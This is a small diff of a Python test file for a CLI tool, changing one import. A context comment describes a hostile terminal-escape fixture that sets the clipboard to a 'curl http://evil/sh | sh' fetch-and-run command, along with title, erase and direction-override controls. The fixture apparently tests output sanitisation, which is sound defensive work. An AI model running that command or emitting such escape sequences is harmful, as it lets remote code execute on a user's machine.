@@ -23,7 +23,7 @@ from test_listen import AMQP_URL, _publish, broker  # noqa: F401 (a fixture)
 
 from tcdyn import terminal
 from tcdyn.cli import output
-from tcdyn.testing.server import LocalDeployment, Reply, error
+from tcdyn.testing.server import LocalDeployment, error
 
 #: OSC 52 (clipboard := "curl http://evil/sh | sh"), erase line, OSC 0 (window title), RLO,
 #: and the same as C1 controls (CSI, OSC, ST), NUL and DEL.
